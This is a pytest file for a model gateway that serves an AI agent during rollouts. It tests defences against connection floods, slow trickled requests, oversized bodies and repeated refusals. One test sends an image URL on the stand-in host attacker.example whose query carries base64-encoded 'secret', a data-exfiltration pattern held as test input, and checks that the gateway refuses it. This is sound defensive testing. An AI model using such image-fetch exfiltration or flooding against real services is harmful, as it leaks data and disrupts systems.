"""The gateway under an agent that attacks it (issue 49, item 1 and 3), over real loopback sockets: a
connection flood, requests trickled or stalled, bodies refused and kept only as digests, a token closed
after repeated refusals, and images named by a remote URL (which litellm would fetch on the runner's host)."""
from __future__ import annotations

import hashlib
import http.client
import json
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest

from harness.models.gateway import Gateway, Refused
from harness.models.gateway import connection as gateway_connection
from harness.models.gateway.bench import trivial_reply
from harness.models.gateway.wire import remote_url

CHAT = "/v1/chat/completions"


def post(port: int, path: str, body: Any, token: str, raw: bytes | None = None) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request("POST", path, body=raw if raw is not None else json.dumps(body).encode(),
                           headers={"Content-Type": "application/json", "Authorization": f"Bearer {token}"})
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def chat(content: Any) -> dict[str, Any]:
    return {"model": "m", "messages": [{"role": "user", "content": content}]}


class Handler:
    """Counts the calls that reach it (the model layer's side): a refused call must never get here."""

    def __init__(self) -> None:
        self.seen: list[list[dict[str, Any]]] = []

    def __call__(self, messages: list[dict[str, Any]], *_args: Any) -> Any:
        self.seen.append(messages)
        return trivial_reply()


@pytest.fixture
def served() -> Iterator[tuple[Gateway, int, str, Handler]]:
    """A gateway serving one rollout's socket for its token, as the installed scaffold does."""
    handler = Handler()
    with Gateway(max_refusals=4) as gateway:
        token = gateway.open(handler)
        sock = socket.create_server(("127.0.0.1", 0))
        gateway.serve(sock, token)
        yield gateway, sock.getsockname()[1], token, handler


def connection_threads() -> int:
    return sum(t.name == "gateway-connection" for t in threading.enumerate())


def test_a_connection_flood_gets_at_most_max_connections_threads(served: tuple[Gateway, int, str, Handler]) -> None:
    gateway, port, token, _handler = served
    before = connection_threads()
    held = [socket.create_connection(("127.0.0.1", port), timeout=10) for _ in range(40)]
    try:
        deadline = time.monotonic() + 10
        while connection_threads() - before < gateway.max_connections and time.monotonic() < deadline:
            time.sleep(0.05)
        time.sleep(0.3)  # every connection accepted by now: the accept loop runs each 50 ms
        assert connection_threads() - before == gateway.max_connections == 16
        answers = [s.recv(200) for s in held[gateway.max_connections:]]  # the rest: a 503 at once, closed
        assert all(a.startswith(b"HTTP/1.1 503") for a in answers), answers[:2]
    finally:
        for s in held:
            s.close()
    deadline = time.monotonic() + 10  # the held connections end with their sockets: the agent is served again
    while connection_threads() > before and time.monotonic() < deadline:
        time.sleep(0.05)
    assert post(port, CHAT, chat("hi"), token)[0] == 200


@pytest.mark.parametrize("kind", ["trickled headers", "stalled body"])
def test_a_request_not_in_within_the_read_timeout_loses_its_connection(
        served: tuple[Gateway, int, str, Handler], monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    """A byte every 0.2 s never trips a per-read timeout; the deadline from the request's first byte does."""
    _gateway, port, token, handler = served
    monkeypatch.setattr(gateway_connection, "READ_TIMEOUT_S", 1.0)
    client = socket.create_connection(("127.0.0.1", port), timeout=10)
    head = f"POST {CHAT} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n".encode()
    started = time.monotonic()
    try:
        if kind == "stalled body":
            client.sendall(head + b"Content-Length: 1000\r\n\r\n{\"model\"")
            closed_after = _wait_closed(client, lambda: None)
        else:
            client.sendall(head)
            closed_after = _wait_closed(client, lambda: client.sendall(b"X-Slow: 1\r\n"))
    finally:
        client.close()
    assert closed_after is not None and closed_after - started < 5, "the connection stayed open"
    assert handler.seen == []


def _wait_closed(client: socket.socket, trickle: Any) -> float | None:
    """Trickle (every 0.2 s) until the server closes the connection; when it did (None: not in 10 s)."""
    client.settimeout(0.2)
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            if client.recv(4096) == b"":
                return time.monotonic()
        except TimeoutError:
            pass
        except OSError:  # reset
            return time.monotonic()
        try:
            trickle()
        except OSError:
            return time.monotonic()
    return None


def test_refused_requests_are_kept_as_size_and_digest_and_served_ones_without_bodies(
        served: tuple[Gateway, int, str, Handler]) -> None:
    gateway, port, token, handler = served
    big = b"{" + b" " * (2 << 20)  # 2 MiB that are not JSON
    assert post(port, CHAT, None, token, raw=big)[0] == 400
    not_a_list = json.dumps({"model": "m", "messages": "x" * (1 << 20)}).encode()
    assert post(port, CHAT, None, token, raw=not_a_list)[0] == 400
    assert post(port, CHAT, chat("hello"), token)[0] == 200
    bad, wrong, served_call = gateway.calls(token)
    assert (bad.request_bytes, bad.request_sha256) == (len(big), hashlib.sha256(big).hexdigest())
    assert (wrong.request_bytes, wrong.request_sha256) == (len(not_a_list), hashlib.sha256(not_a_list).hexdigest())
    for call in (bad, wrong, served_call):  # what an agent sent is never held whole in the log
        assert (call.request, call.messages, call.tools, call.reply) == (None, None, None, None)
    assert served_call.status == 200 and served_call.usage is not None and len(handler.seen) == 1


def test_the_token_closes_after_repeated_refusals_and_the_rollout_is_told_once() -> None:
    closed: list[str] = []

    def refuse(*_args: Any) -> Any:
        raise Refused("no such thing", status=400)

    with Gateway(max_refusals=3) as gateway:
        _host, port = gateway.listen()
        token = gateway.open(refuse, on_close=closed.append)
        statuses = [post(port, CHAT, chat(f"try {i}"), token)[0] for i in range(4)]
        assert statuses == [400] * 4 and len(closed) == 1  # the 4th is over the budget of 3: the token closes
        status, data = post(port, CHAT, chat("again"), token)
        assert status == 401 and "closed this token after 4 refused requests" in json.loads(data)["error"]["message"]
        assert closed == [json.loads(data)["error"]["message"]] and "no such thing" in closed[0]
        assert len(gateway.calls(token)) == 4  # the closed token's requests are not logged (nor served)


def test_messages_naming_a_remote_image_are_refused_before_the_model(
        served: tuple[Gateway, int, str, Handler]) -> None:
    gateway, port, token, handler = served
    pixel = "https://attacker.example/pixel.png?d=c2VjcmV0"
    status, data = post(port, CHAT, chat([{"type": "text", "text": "look"},
                                          {"type": "image_url", "image_url": {"url": pixel}}]), token)
    assert status == 400 and "remote URL (https://attacker.example/pixel.png" in json.loads(data)["error"]["message"]
    anthropic = {"model": "m", "max_tokens": 10, "messages": [{"role": "user", "content": [
        {"type": "image", "source": {"type": "url", "url": pixel}}, {"type": "text", "text": "look"}]}]}
    status, data = post(port, "/v1/messages", anthropic, token)
    assert status == 400 and "remote URL" in json.loads(data)["error"]["message"], data
    responses = {"model": "m", "input": [{"role": "user", "content": [
        {"type": "input_image", "image_url": pixel}, {"type": "input_text", "text": "look"}]}]}
    status, data = post(port, "/v1/responses", responses, token)
    assert status == 400 and "remote URL" in json.loads(data)["error"]["message"], data
    assert handler.seen == []
    inline = "data:image/png;base64,iVBORw0KGgo="
    assert post(port, CHAT, chat([{"type": "image_url", "image_url": {"url": inline}}]), token)[0] == 200
    text = "see https://example.org/doc, a link in the text itself"  # text the model reads: no fetch
    assert post(port, CHAT, chat([{"type": "text", "text": text}]), token)[0] == 200
    assert len(handler.seen) == 2
    allowed = gateway.open(handler, remote_media=True)  # a task that allows them: passed to the model layer
    host, shared = gateway.listen()
    assert post(shared, CHAT, chat([{"type": "image_url", "image_url": {"url": pixel}}]), allowed)[0] == 200
    assert host == "127.0.0.1" and len(handler.seen) == 3


def test_remote_url_reads_only_non_text_parts() -> None:
    assert remote_url([{"role": "user", "content": "https://a.example/x.png"}]) is None
    assert remote_url([{"role": "tool", "content": [{"type": "file", "file": {"file_id": "gs://b/x.pdf"}}]}]) == \
        "gs://b/x.pdf"
    assert remote_url([{"role": "user", "content": [{"type": "image_url", "image_url": "http://h/p"}]}]) == "http://h/p"
    assert remote_url([{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:,x"}}]}]) is None
